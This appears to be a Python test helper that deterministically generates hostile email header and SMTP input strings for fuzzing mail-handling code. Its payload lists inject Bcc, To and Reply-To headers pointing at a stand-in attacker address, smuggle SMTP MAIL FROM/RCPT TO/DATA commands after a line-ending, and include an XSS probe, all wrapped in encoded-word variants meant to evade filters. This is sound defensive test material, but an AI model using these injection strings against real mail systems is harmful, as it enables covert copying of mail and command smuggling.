"""Words of a hostile sender: known header attacks and what can be made of them, the same at every run."""

from __future__ import annotations

import base64
import random
from collections.abc import Iterator

_TAILS = [
    "Bcc: spy@evil.example",
    "To: spy@evil.example",
    "Cc: <spy@evil.example>",
    "Reply-To: spy@evil.example",
    "Disposition-Notification-To: spy@evil.example",
    "Content-Type: text/html",
    "\r\n<script>alert(1)</script>",
    ".\r\nMAIL FROM:<spy@evil.example>\r\nRCPT TO:<spy@evil.example>\r\nDATA",
]
_ENDS = [
    "\r\n",
    "\n",
    "\r",
    "\n\r",
    "\r\r\n",
    "\x0b",
    "\x0c",
    "\x1c",
    "\x1e",
    "\x85",
    "\u2028",
    "\u2029",
    "\0",
    "\r\n ",
    "\r\n\r\n",
    "\n.\r\n",
]
_LETTERS = "abcäß谢\u202e\u200b\ufeff\ud800\udfff=?_:;,<>@\"\\()[]\t\r\n\0\x7f\u2028😀%$`'|"


def hostile_words(count: int) -> Iterator[str]:
    """This many texts, each meant to become a header, a recipient or a command."""
    dice = random.Random(20261125)
    for _ in range(count):
        yield _one(dice)


def _one(dice: random.Random) -> str:
    payload = _noise(dice) + dice.choice(_ENDS) + dice.choice(_TAILS) + dice.choice(_ENDS) + _noise(dice)
    wrap = dice.randrange(7)
    if wrap == 0:
        return payload
    if wrap == 1:
        return "=?utf-8?q?" + "".join(f"={byte:02X}" for byte in payload.encode("utf-8", "replace")) + "?="
    if wrap == 2:
        return "=?utf-8?b?" + base64.b64encode(payload.encode("utf-8", "replace")).decode() + "?="
    if wrap == 3:
        inner = base64.b64encode(payload.encode("utf-8", "replace")).decode()
        return "=?utf-8?q?" + f"=?utf-8?b?{inner}?=".replace("=", "=3D").replace("?", "=3F") + "?="
    if wrap == 4:
        half = base64.b64encode(payload.encode("utf-16", "replace")).decode()
        return f"=?utf-16?b?{half}?= =?{dice.choice(['iso-2022-jp', 'gb18030', 'utf-7', 'idna', 'x'])}?Q?=0D=0ABcc=3A_x?="
    if wrap == 5:
        return _noise(dice) * dice.randrange(1, 30)
    return f'"{payload}" <{payload}>, =?us-ascii?q?{_noise(dice)}=0D=0A?='


def _noise(dice: random.Random) -> str:
    return "".join(dice.choice(_LETTERS) for _ in range(dice.randrange(12)))
